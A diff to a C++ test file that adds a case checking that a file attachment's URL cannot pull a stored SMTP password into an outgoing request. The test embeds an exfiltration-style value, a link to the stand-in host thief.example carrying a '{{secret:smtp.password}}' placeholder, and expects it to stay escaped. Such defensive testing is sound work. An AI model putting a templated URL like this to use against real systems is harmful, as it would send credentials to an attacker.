@@ -224,3 +224,15 @@ TEST_CASE("files are fetched and go along; what cannot be had goes as a link") {
     CHECK(text.find("b.png: https://g.example/media/2") != std::string::npos);
     CHECK(text.find("c.zip: https://g.example/media/3") != std::string::npos);
 }
+
+TEST_CASE("who writes a link gets none of our secrets by it") {
+    drive::channel channel(given());
+    auto asks = message();
+    asks.content = json{{"attachments",
+                         {{{"kind", "file"},
+                           {"url", "https://thief.example/{{secret:smtp.password}}"},
+                           {"name", "a.txt"}}}}}
+                       .dump();
+    CHECK(channel.send(asks).calls.at(0).url ==
+          "https://thief.example/%7B%7Bsecret:smtp.password}}");
+}
